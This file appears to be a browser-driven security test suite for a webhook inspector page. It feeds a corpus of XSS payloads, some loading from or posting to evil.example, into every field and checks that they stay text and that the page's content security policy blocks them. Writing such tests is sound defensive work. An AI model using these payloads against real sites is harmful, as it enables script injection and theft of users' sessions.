import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Browser } from 'puppeteer-core';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { documentedExamples } from '#generated/examples.js';
import { TABS } from '../../mock-server/inspector/state/route.ts';
import { type Inspector, openInspector, startBrowser } from './browser.ts';

let browser: Browser;
beforeAll(async () => {
  browser = await startBrowser();
});
afterAll(async () => browser.close());

/** What is tried in every place that a sender can write to. Whatever runs sets `hacked`, or asks `evil.example`. */
const CORPUS = [
  '<script>globalThis.hacked=1</script>',
  '<img src=x onerror="globalThis.hacked=1">',
  '"><svg onload=globalThis.hacked=1>',
  `'><iframe srcdoc="<script>parent.hacked=1</script>"></iframe>`,
  '</textarea></pre></title></style><script src=//evil.example/x.js></script>',
  'javascript:globalThis.hacked=1//',
  ' \u0001javascript:globalThis.hacked=1',
  'data:text/html,<script>globalThis.hacked=1</script>',
  'https://evil.example/"onmouseover="globalThis.hacked=1',
  'http://evil.example/<script>globalThis.hacked=1</script>',
  '{{constructor.constructor("globalThis.hacked=1")()}}${globalThis.hacked=1}',
  '<style>@import url(//evil.example/x.css);*{background:url(//evil.example/y)}</style>',
  '<base href=//evil.example><form action=//evil.example><button>Send</button></form>',
  '<meta http-equiv=refresh content="0;url=//evil.example">',
  '<a href=javascript:globalThis.hacked=1 id=detail name=deliveries>x</a>',
  '\u202e\u2066<b>right to left</b>\u2069\u0000\ufffe',
  '__proto__',
  'constructor',
];

/** A delivery that holds a text in every place that a payload has. */
function everywhere(text: string): string {
  const data = {
    robot_id: text,
    run_id: text,
    robot_name: text,
    robotName: text,
    status: text,
    started_at: text,
    finished_at: text,
    extracted_data: {
      captured_texts: { [text]: [text, { [text]: text }] },
      captured_lists: { [text]: [{ [text]: text }, text, { [text]: { [text]: [text] } }] },
      [text]: text,
    },
    error: { message: text, type: text, stack: text },
    metadata: { [text]: text, browser_id: text },
    markdown: text.repeat(200),
    html: text,
    links: [text, { url: text }],
    screenshot_visible: text,
    [text]: text,
  };
  return JSON.stringify({ event_type: text, timestamp: text, webhook_id: text, data, [text]: text });
}

/** What of a text a header may hold: bytes of ISO 8859-1 without controls. */
function headerSafe(text: string): string {
  return text.replaceAll(/[^\x20-\x7e]/g, '').trim();
}

async function deliver({ mock }: Inspector, text: string, body = everywhere(text)): Promise<void> {
  await fetch(`${mock.url}?${encodeURIComponent(text)}=${encodeURIComponent(text)}&x=<script>`, {
    method: 'POST',
    headers: {
      'content-type': 'application/json',
      'user-agent': headerSafe(text),
      'webhook-id': headerSafe(text),
      'webhook-timestamp': '1',
      'webhook-signature': headerSafe(text),
      'x-file': `attachment; filename="${headerSafe(text)}"`,
    },
    body,
  });
}

/** Goes through every tab of a delivery, and opens what can be opened. */
async function readAll({ page }: Inspector, id: number): Promise<void> {
  for (const tab of TABS) {
    await page.evaluate((hash) => (location.hash = hash), `#/d/${id}/${tab}`);
    await page.waitForSelector(`#detail[aria-label="Delivery ${id}"] .detail-head`);
    await page.waitForSelector(`#tab-${tab}[aria-selected=true]`);
    await page.evaluate(() => {
      const folded = document.querySelectorAll<HTMLElement>(
        '.fold, .show-more, .tree-toggle[aria-expanded=false]',
      );
      for (const button of folded) button.click();
      for (const one of document.querySelectorAll<HTMLElement>('[aria-label="Copy as"] button')) one.click();
    });
  }
}

/** What in the page must not be there: foreign elements, handlers in attributes, links that run. */
async function foreignParts({ page }: Inspector): Promise<string[]> {
  return page.evaluate(() => {
    const found: string[] = [];
    if ('hacked' in globalThis) found.push('a script ran');
    for (const element of document.querySelectorAll('*')) {
      const name = element.localName;
      if (['object', 'embed', 'base', 'style', 'iframe', 'template', 'b'].includes(name)) found.push(name);
      const own = `${location.origin}/__mock/inspector/`;
      if (element instanceof HTMLScriptElement && element.src !== `${own}inspector.js`) found.push('script');
      if (element instanceof HTMLImageElement && element.src !== `${own}icon.svg`) found.push('img');
      if (name === 'meta' && element.hasAttribute('http-equiv')) found.push('meta');
      for (const attribute of element.attributes)
        if (/^on|^srcdoc$/.test(attribute.name)) found.push(attribute.name);
      if (name !== 'a') continue;
      const { protocol, origin, rel } = element as HTMLAnchorElement;
      if (!['http:', 'https:'].includes(protocol)) found.push(protocol);
      if (origin !== location.origin && !rel.includes('noopener')) found.push(`a link with rel=${rel}`);
    }
    return found;
  });
}

describe('stored script', () => {
  let inspector: Inspector;
  beforeAll(async () => {
    inspector = await openInspector(browser, { secret: 'whsec_MfKQ9r8GKYqrTwjUPD8ILPZIo2LaLaSw' });
  });
  afterAll(async () => inspector[Symbol.asyncDispose]());

  test.each(CORPUS.map((text, index) => [index, text] as const))(
    'number %i stays text in every place',
    async (_index, text) => {
      const { page, problems, sees, mock } = inspector;
      await deliver(inspector, text);
      await deliver(inspector, text, text);
      const last = mock.deliveries.length;
      await page.waitForSelector(`#delivery-${last}`);
      for (const id of [last - 1, last]) {
        await readAll(inspector, id);
        expect(await foreignParts(inspector)).toEqual([]);
      }
      await page.evaluate((hash) => (location.hash = hash), `#/d/${last}/raw`);
      await sees('.raw', text.replaceAll('\0', '�').slice(0, 20));
      expect(problems).toEqual([]);
    },
  );

  test('in what another endpoint answers to a replay stays text', async () => {
    const html = CORPUS.join('\n').replaceAll('\0', '');
    const server = createServer((_request, response) => {
      response
        .writeHead(200, { 'content-type': 'text/html', 'x-odd': '<img src=x onerror=hacked=1>' })
        .end(html);
    });
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
    const url = `http://127.0.0.1:${(server.address() as AddressInfo).port}/`;
    await using inspector = await openInspector(browser, { allow: ['127.0.0.1/32'] });
    const { page, post, open, sees, problems } = inspector;
    await post(documentedExamples.run_failed.payload);
    await open(1, 'replay');
    await page.type('[name=url]', url);
    await page.click('[type=submit]');
    await sees('.outcome', 'onerror');
    expect(await foreignParts(inspector)).toEqual([]);
    expect(problems).toEqual([]);
    await new Promise((resolve) => server.close(resolve));
  });

  test('in a script of the receiver stays text', async () => {
    await using inspector = await openInspector(browser);
    const { page, sees, problems } = inspector;
    await page.click('a[href="#/script"]');
    await page.waitForSelector('.lines button');
    await page.$eval('[name=script]', (field) => (field as HTMLTextAreaElement).select());
    const steps = [
      { action: { type: 'reply', status: 503 }, when: { eventType: CORPUS[1], robot: CORPUS[0] } },
    ];
    await page.type('[name=script]', JSON.stringify(steps));
    await page.click('[type=submit]');
    await sees('.script-steps', '503');
    expect(await foreignParts(inspector)).toEqual([]);
    expect(problems).toEqual([]);
  });
});

describe('the policy of the page', () => {
  test.each([
    [
      'an inline script',
      `const s = document.createElement('script'); s.textContent = 'hacked = 1'; document.body.append(s)`,
    ],
    ['HTML from text', `document.body.innerHTML = '<b>x</b>'`],
    ['a script from text', `(0, eval)('1')`],
    [
      'a script from elsewhere',
      `const s = document.createElement('script'); s.src = 'https://evil.example/x.js'`,
    ],
    [
      'a picture from elsewhere',
      `const i = new Image(); i.src = 'https://evil.example/x.png'; document.body.append(i)`,
    ],
    ['a request to elsewhere', `fetch('https://evil.example/').catch(() => {})`],
    [
      'a frame from elsewhere',
      `const f = document.createElement('iframe'); f.src = 'https://evil.example/'; document.body.append(f)`,
    ],
  ])('refuses %s', async (_name, code) => {
    await using inspector = await openInspector(browser);
    const { page } = inspector;
    const refused = page.evaluate(
      async () =>
        new Promise<string>((resolve) => {
          document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) =>
            resolve(effectiveDirective),
          );
        }),
    );
    // By the debugger's own channel, as the page itself can run no text.
    const client = await page.createCDPSession();
    await client.send('Runtime.evaluate', {
      expression: `(() => { ${code} })()`,
      allowUnsafeEvalBlockedByCSP: false,
    });
    expect(await refused).toMatch(
      /^(?:script-src|script-src-elem|img-src|connect-src|frame-src|require-trusted-types-for|trusted-types)/,
    );
  });
});
